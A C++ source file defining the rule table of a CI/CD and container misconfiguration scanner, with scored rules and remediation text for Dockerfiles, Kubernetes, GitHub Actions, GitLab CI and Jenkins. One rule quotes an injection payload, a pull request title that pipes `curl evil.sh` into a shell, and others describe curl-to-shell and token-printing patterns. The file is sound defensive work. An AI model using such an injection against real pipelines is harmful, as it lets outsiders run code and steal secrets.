// The rule table of the misconfiguration scan. Scores follow the scan bands
// (critical >= 9.0, high >= 7.0, medium >= 4.0, low otherwise): a rule is high
// or critical when it lets an outsider run code or read credentials, medium
// when it weakens a boundary, low when it is hygiene.
#include "stages/scan/misconfig/misconfig_rules.hpp"

namespace slipway::scan::misconfig {
namespace {

constexpr std::array<RuleSpec, k_rule_count> k_specs = {{
    {Rule::parse_error, Area::none, "parse-error", 4.0, "Configuration file does not parse",
     "A workflow, GitLab CI file, Kubernetes manifest or Jenkinsfile that the scanner recognised "
     "but could not parse (malformed YAML, an unterminated Groovy string).",
     "A file that does not parse is not checked at all, so any problem in it goes unreported, and "
     "the CI system will usually reject it too.",
     "Fix the syntax at the reported line and column, then scan again."},

    // Dockerfile
    {Rule::dockerfile_unpinned_base_image, Area::dockerfile, "unpinned-base-image", 5.0,
     "Base image without a tag or with the latest tag",
     "A `FROM` line whose image has no tag or the tag `latest` (`scratch` and earlier build stages "
     "are fine).",
     "Such an image changes under you: each build may pull a different image with different "
     "packages and vulnerabilities, and a compromised upstream push reaches you without review.",
     "Name a specific version (`FROM python:3.12-slim`), or better a digest "
     "(`FROM python:3.12-slim@sha256:...`), and update it deliberately, e.g. with Dependabot or "
     "Renovate."},
    {Rule::dockerfile_runs_as_root, Area::dockerfile, "runs-as-root", 6.0, "Container runs as root",
     "The final stage sets no `USER` (and inherits none from an earlier stage), or its last `USER` "
     "is `root` or `0`.",
     "A process running as root inside a container is one kernel or runtime bug away from root on "
     "the host, and can modify everything in the image at run time.",
     "Create an unprivileged user and switch to it at the end of the final stage, e.g. "
     "`RUN useradd --system --uid 10001 app` then `USER 10001`."},
    {Rule::dockerfile_add_instead_of_copy, Area::dockerfile, "add-instead-of-copy", 3.0,
     "ADD used where COPY serves",
     "An `ADD` whose sources are all local files or folders that are not tar archives.",
     "`ADD` also downloads URLs and unpacks archives, so it can do more than the reader expects; "
     "`COPY` does only what it says.",
     "Use `COPY` for local files. Keep `ADD` only for a tar archive you want unpacked or a remote "
     "file fetched with `--checksum`."},
    {Rule::dockerfile_unpinned_packages, Area::dockerfile, "unpinned-packages", 3.0,
     "Package install without version pins",
     "A `RUN` that installs packages with apt-get, apk, yum, dnf, microdnf, zypper, pip, npm or "
     "gem without naming their versions (`pkg=1.2`, `pkg==1.2`, `pkg@1.2`, `pkg-1.2`).",
     "Unpinned installs make the image differ from build to build and can silently pull a broken "
     "or malicious release.",
     "Pin each package (`apt-get install -y curl=7.88.1-10+deb12u5`, `pip install "
     "requests==2.32.3`), or install from a lock or requirements file."},
    {Rule::dockerfile_package_cache_kept, Area::dockerfile, "package-cache-kept", 2.0,
     "Package manager cache left in the image",
     "A `RUN` in a stage that ends up in the final image installs packages but leaves the package "
     "manager's cache behind: apt-get without `rm -rf /var/lib/apt/lists/*`, apk without "
     "`--no-cache`, yum/dnf/microdnf/zypper without `clean all`, pip without `--no-cache-dir`.",
     "The cache adds megabytes to every image layer and keeps package indexes that go stale; "
     "smaller images pull faster and carry less to scan.",
     "Clean up in the same `RUN` (`... && rm -rf /var/lib/apt/lists/*`), use `apk add --no-cache` "
     "or `pip install --no-cache-dir`, or use a BuildKit cache mount "
     "(`RUN --mount=type=cache,target=/var/cache/apt ...`)."},
    {Rule::dockerfile_curl_pipe_shell, Area::dockerfile, "curl-pipe-shell", 7.5,
     "Downloaded script piped into a shell",
     "A `RUN` that pipes `curl` or `wget` output straight into a shell or interpreter "
     "(`curl ... | sh`), or runs it through `sh -c \"$(curl ...)\"`.",
     "Whatever the server returns at build time is executed unreviewed, as root, with no checksum: "
     "a compromised or spoofed download owns the image.",
     "Download to a file, verify its checksum or signature, then run it: "
     "`curl -fsSLo install.sh URL && echo \"<sha256>  install.sh\" | sha256sum -c - && sh "
     "install.sh`. Prefer a package from the distribution."},
    {Rule::dockerfile_secret_in_env, Area::dockerfile, "secret-in-env", 8.0, "Secret in ENV or ARG",
     "An `ENV` or `ARG` whose name says it holds a secret (password, token, secret, API key, "
     "private key, credentials).",
     "ENV values are stored in the image configuration and ARG values in its build history; anyone "
     "who can pull the image can read them with `docker inspect` or `docker history`.",
     "Pass secrets with BuildKit secret mounts (`RUN --mount=type=secret,id=npm_token ...` and "
     "`docker build --secret id=npm_token,...`) and provide run-time secrets from the orchestrator, "
     "never through `ENV` or `ARG`."},
    {Rule::dockerfile_sudo, Area::dockerfile, "sudo", 5.0, "sudo used in RUN",
     "A `RUN` command that calls `sudo`.",
     "`sudo` inside an image build is either useless (the build already runs as root) or a sign "
     "that the image ships sudo and a user allowed to use it, which undoes running as a "
     "non-root user.",
     "Run the privileged steps before the `USER` instruction and drop `sudo`; if a tool really "
     "needs to change user at run time, use `gosu` or `su-exec`."},

    // Kubernetes
    {Rule::kubernetes_privileged, Area::kubernetes, "privileged", 9.0, "Privileged container",
     "A container with `securityContext.privileged: true`.",
     "A privileged container has every capability and access to all host devices; escaping to the "
     "node is trivial.",
     "Remove `privileged: true`; grant only the specific capability the workload needs under "
     "`securityContext.capabilities.add`."},
    {Rule::kubernetes_privilege_escalation, Area::kubernetes, "privilege-escalation", 6.0,
     "Privilege escalation allowed",
     "A container whose `securityContext.allowPrivilegeEscalation` is not `false` (Kubernetes "
     "allows escalation when the field is missing).",
     "Without `allowPrivilegeEscalation: false` a process can gain more privileges than its parent, "
     "through setuid binaries or file capabilities.",
     "Set `securityContext.allowPrivilegeEscalation: false` on every container."},
    {Rule::kubernetes_run_as_non_root_missing, Area::kubernetes, "run-as-non-root-missing", 5.5,
     "Container may run as root",
     "A container for which neither its own nor the pod's `securityContext` sets "
     "`runAsNonRoot: true` or a non-zero `runAsUser`.",
     "Without it the container runs as whatever user the image says, usually root, so a "
     "compromise of the process is a compromise of root in the container.",
     "Set `securityContext.runAsNonRoot: true` (pod or container level), and make the image run as "
     "a numeric non-root `USER`; or set `runAsUser` to a non-zero UID."},
    {Rule::kubernetes_host_namespaces, Area::kubernetes, "host-namespaces", 8.0,
     "Pod shares the host's namespaces",
     "A pod spec with `hostNetwork`, `hostPID` or `hostIPC` set to `true`.",
     "Sharing the node's network, process or IPC namespace lets the pod see and talk to everything "
     "on the node, sniff traffic, and signal or inspect other workloads' processes.",
     "Remove `hostNetwork`, `hostPID` and `hostIPC` (they default to `false`); expose ports with a "
     "Service instead of host networking."},
    {Rule::kubernetes_host_path_volume, Area::kubernetes, "host-path-volume", 7.0, "hostPath volume",
     "A pod volume of type `hostPath`.",
     "A hostPath volume mounts a folder of the node into the container; writable host paths (or "
     "the container runtime socket) are a direct route to taking over the node.",
     "Use a `persistentVolumeClaim`, `emptyDir`, `configMap` or `secret` volume instead; if a node "
     "agent really needs a host path, mount it `readOnly` and restrict it with policy."},
    {Rule::kubernetes_dangerous_capabilities, Area::kubernetes, "dangerous-capabilities", 8.0,
     "Dangerous Linux capability added",
     "A container that adds `ALL` or a capability that amounts to root on the node (SYS_ADMIN, "
     "NET_ADMIN, SYS_PTRACE, SYS_MODULE, SYS_RAWIO, SYS_BOOT, DAC_READ_SEARCH, BPF, MAC_ADMIN, "
     "MAC_OVERRIDE, PERFMON, SYSLOG) under `securityContext.capabilities.add`.",
     "These capabilities allow loading kernel modules, tracing other processes, mounting file "
     "systems or reconfiguring the network: each is a known container-escape path.",
     "Drop all capabilities (`capabilities: {drop: [ALL]}`) and add back only harmless ones the "
     "workload needs, such as `NET_BIND_SERVICE`."},
    {Rule::kubernetes_missing_resources, Area::kubernetes, "missing-resources", 3.5,
     "No resource requests or limits",
     "A container without `resources.requests` or without `resources.limits`.",
     "Without requests the scheduler cannot place the pod sensibly; without limits one container "
     "can starve its neighbours of CPU and memory, turning a bug or an attack into an outage of "
     "the node.",
     "Set `resources.requests` (cpu, memory) and `resources.limits` (at least memory) on every "
     "container, or give the namespace a LimitRange."},
    {Rule::kubernetes_unpinned_image, Area::kubernetes, "unpinned-image", 5.0,
     "Container image without a tag or with the latest tag",
     "A container or init container whose `image` has no tag or the tag `latest`.",
     "The image that runs then depends on when the node pulled it: rollbacks do not roll back, "
     "nodes run different code, and a compromised push is deployed without review.",
     "Use a specific version tag, or better a digest (`image: registry/app:1.4.2@sha256:...`)."},
    {Rule::kubernetes_missing_probes, Area::kubernetes, "missing-probes", 2.0,
     "No readiness or liveness probe",
     "A long-running container (Pod, Deployment, StatefulSet, DaemonSet, ReplicaSet, "
     "ReplicationController; not init containers, Jobs or CronJobs) without a `readinessProbe` or "
     "without a `livenessProbe`.",
     "Without a readiness probe traffic reaches the container before it can serve; without a "
     "liveness probe a hung process is never restarted. Both make rollouts and incidents worse.",
     "Add `readinessProbe` and `livenessProbe` (HTTP, TCP, gRPC or exec) that reflect whether the "
     "application can serve."},
    {Rule::kubernetes_secret_in_env, Area::kubernetes, "secret-in-env", 8.0,
     "Literal secret in a container's env",
     "An `env` entry whose name says it holds a secret (password, token, secret, API key, "
     "credentials) and whose `value` is written in the manifest.",
     "The secret is then in the repository, in every clone and in the cluster's object store in "
     "plain text, readable by anyone who can read the Deployment.",
     "Store the value in a Secret (or an external secret manager) and reference it with "
     "`valueFrom.secretKeyRef`; rotate the exposed value."},

    // GitHub Actions
    {Rule::github_expression_injection, Area::github_actions, "expression-injection", 9.0,
     "Attacker-controlled expression expanded in a script",
     "A `${{ ... }}` expression in a `run:` script (or an `actions/github-script` `script:`) that "
     "reads data an outsider controls: issue, pull request, comment, review and discussion titles "
     "and bodies, commit messages and authors, branch names (`github.head_ref`, "
     "`github.event.pull_request.head.ref`), and the like.",
     "GitHub substitutes the text into the script before the shell runs it, so a pull request "
     "titled `\"; curl evil.sh | sh; #` runs the attacker's commands with the job's token and "
     "secrets.",
     "Pass the value through an environment variable and quote it in the script: "
     "`env: {TITLE: \"${{ github.event.issue.title }}\"}` then `echo \"$TITLE\"`."},
    {Rule::github_untrusted_checkout, Area::github_actions, "untrusted-checkout", 9.0,
     "Privileged workflow checks out untrusted code",
     "A workflow triggered by `pull_request_target` or `workflow_run` with an `actions/checkout` "
     "step whose `ref` or `repository` points at the pull request's head (head sha, head ref, "
     "merge commit, `refs/pull/...`).",
     "These triggers run with the base repository's secrets and a write token; building or even "
     "installing dependencies of the checked-out fork code lets any outsider run code in that "
     "privileged context (a \"pwn request\").",
     "Use the `pull_request` trigger for building untrusted code; if a privileged follow-up is "
     "needed, pass results as artifacts to a `workflow_run` job that never executes them."},
    {Rule::github_unpinned_action, Area::github_actions, "unpinned-action", 6.5,
     "Third-party action not pinned to a commit SHA",
     "A `uses:` of a third-party action or reusable workflow whose ref is not a full 40-character "
     "commit SHA, or a `docker://` image without a digest. Actions of the owners in "
     "`scan.misconfig.trusted-action-owners` (by default `actions` and `github`) and local actions "
     "are exempt.",
     "Tags and branches can be moved: whoever controls the action's repository (or steals its "
     "maintainer's token) can change the code your workflow runs, with your secrets.",
     "Pin to the full commit SHA and keep the tag as a comment: `uses: "
     "owner/action@<40-hex-sha> # v1.2.3`. Dependabot and Renovate update such pins."},
    {Rule::github_missing_permissions, Area::github_actions, "missing-permissions", 5.0,
     "Workflow without a permissions block",
     "A workflow with no top-level `permissions:` and at least one job without its own.",
     "Such jobs get the repository's default token permissions, which are read-write on many "
     "repositories; a compromised step can then push code, create releases or approve pull "
     "requests.",
     "Add `permissions: {contents: read}` at the top of the workflow and grant more per job only "
     "where needed."},
    {Rule::github_write_all_permissions, Area::github_actions, "write-all-permissions", 7.0,
     "permissions: write-all", "A workflow or job with `permissions: write-all`.",
     "`write-all` gives the job's token every write scope; any step (including every action it "
     "uses) can push, tag, publish packages and change settings.",
     "List the scopes the job needs instead (`permissions: {contents: read, pull-requests: "
     "write}`)."},
    {Rule::github_secrets_inherit, Area::github_actions, "secrets-inherit", 5.5,
     "Reusable workflow receives all secrets", "A job calling a reusable workflow with `secrets: inherit`.",
     "The called workflow receives every secret of the caller, not just the ones it needs, so a "
     "bug or compromise there exposes all of them.",
     "Pass only the secrets the called workflow declares: "
     "`secrets: {NPM_TOKEN: \"${{ secrets.NPM_TOKEN }}\"}`."},
    {Rule::github_persisted_checkout_credentials, Area::github_actions, "persisted-checkout-credentials", 7.0,
     "Checkout credentials persisted in a job that uploads artifacts",
     "An `actions/checkout` step without `persist-credentials: false` in a job that also uploads "
     "artifacts with `actions/upload-artifact`.",
     "By default checkout writes the job's token into `.git/config`; uploading the workspace (or "
     "part of it) publishes that token to anyone who can download the artifact.",
     "Add `with: {persist-credentials: false}` to the checkout step, and upload only the files "
     "you mean to publish."},
    {Rule::github_hardcoded_container_credentials, Area::github_actions, "hardcoded-container-credentials",
     8.5, "Container registry password written in the workflow",
     "A job `container:` or `services:` entry whose `credentials.password` is a literal instead of "
     "a `${{ secrets.* }}` expression.",
     "The password is then in the repository history, visible to everyone who can read the code "
     "and to every fork.",
     "Store the password as an encrypted secret and use `password: ${{ secrets.REGISTRY_PASSWORD "
     "}}`; rotate the exposed password."},

    // GitLab CI
    {Rule::gitlab_unpinned_include, Area::gitlab_ci, "unpinned-include", 6.5, "Include without a pinned ref",
     "An `include:` of another project without `ref:` or with a `ref:` that is not a full commit "
     "SHA, a `remote:` include without `integrity:`, or a `component:` whose version is not an "
     "exact release (`~latest`, a partial version, a branch).",
     "The included file defines jobs that run with your variables and tokens; if it can change "
     "without a change in your repository, whoever controls it controls your pipeline.",
     "Pin project includes to a commit SHA (`ref: <40-hex-sha>`), add `integrity: sha256-...` to "
     "remote includes, and use exact component versions (`@1.4.2`)."},
    {Rule::gitlab_unpinned_image, Area::gitlab_ci, "unpinned-image", 5.0,
     "Job image without a tag or with the latest tag",
     "An `image:` or `services:` entry (top level, `default:` or a job) without a tag or with the "
     "tag `latest`. Images built from variables are not judged.",
     "The job then runs whatever image the registry serves on that day; builds stop being "
     "reproducible and a compromised push runs with the job's token.",
     "Use a specific version tag, or better a digest (`image: node:20.11-alpine@sha256:...`)."},
    {Rule::gitlab_secret_in_variables, Area::gitlab_ci, "secret-in-variables", 8.0,
     "Literal secret in variables",
     "A `variables:` entry (global or in a job) whose name says it holds a secret (password, "
     "token, secret, API key, credentials) and whose value is written in the file.",
     "Values in `.gitlab-ci.yml` are in the repository and in every job log that prints the "
     "environment; they cannot be masked or protected.",
     "Define the variable in the project's or group's CI/CD settings as masked (and protected), "
     "or use an external secrets provider; rotate the exposed value."},
    {Rule::gitlab_token_printed, Area::gitlab_ci, "token-printed", 7.5, "Job prints a token or secret",
     "A `script`, `before_script` or `after_script` line that prints `CI_JOB_TOKEN`, another "
     "predefined credential (`CI_REGISTRY_PASSWORD`, `CI_DEPLOY_PASSWORD`, `CI_JOB_JWT`, ...) or a "
     "variable whose name says it holds a secret, with `echo`, `printf`, `printenv` or "
     "`Write-Host`/`Write-Output` (piping or redirecting to a file is fine).",
     "Job logs are readable by everyone with access to the pipeline, often including the public; "
     "masking misses values that are transformed, split or encoded.",
     "Do not print credentials. Pass them on standard input "
     "(`echo \"$CI_JOB_TOKEN\" | docker login --password-stdin ...`) or through files."},

    // Jenkins
    {Rule::jenkins_credentials_interpolation, Area::jenkins, "credentials-interpolation", 7.0,
     "Credential interpolated into a shell command by Groovy",
     "A variable bound by `withCredentials` (or by `credentials()` in an `environment` block) used "
     "as `$VAR` or `${VAR}` inside a double-quoted (interpolating) Groovy string passed to `sh`, "
     "`bat`, `powershell` or `pwsh`.",
     "Groovy substitutes the secret into the command text before the shell runs it: the secret "
     "can leak through the process list and build logs, and a secret containing shell "
     "metacharacters becomes command injection.",
     "Use a single-quoted string so the shell reads the variable from its environment: "
     "`sh 'curl -u \"$USER:$PASS\" https://...'`."},
    {Rule::jenkins_unpinned_library, Area::jenkins, "unpinned-library", 6.5,
     "Shared library not pinned to a commit SHA",
     "An `@Library('name')` or `library('name')` without a version, or whose version is not a full "
     "commit SHA (a branch or a tag).",
     "The library's code runs inside your pipeline with its credentials; an unpinned or "
     "branch-pinned library changes whenever someone pushes to it.",
     "Pin the library to a commit: `@Library('my-lib@<40-hex-sha>') _` and update the pin "
     "deliberately."},
}};

}  // namespace

const std::array<RuleSpec, k_rule_count>& rule_specs() {
  return k_specs;
}

const RuleSpec& spec_of(Rule rule) {
  return k_specs[static_cast<std::size_t>(rule)];
}

std::string_view area_name(Area area) {
  switch (area) {
    case Area::none:
      return "";
    case Area::dockerfile:
      return "dockerfile";
    case Area::kubernetes:
      return "kubernetes";
    case Area::github_actions:
      return "github-actions";
    case Area::gitlab_ci:
      return "gitlab-ci";
    case Area::jenkins:
      return "jenkins";
  }
  return "";
}

std::string rule_id(Rule rule) {
  const RuleSpec& spec = spec_of(rule);
  std::string id = "config/";
  if (spec.area != Area::none) {
    id += area_name(spec.area);
    id += '/';
  }
  id += spec.name;
  return id;
}

std::string rule_anchor(Rule rule) {
  std::string anchor;
  for (const char c : rule_id(rule)) {
    if (c != '/') anchor += c;
  }
  return anchor;
}

}  // namespace slipway::scan::misconfig
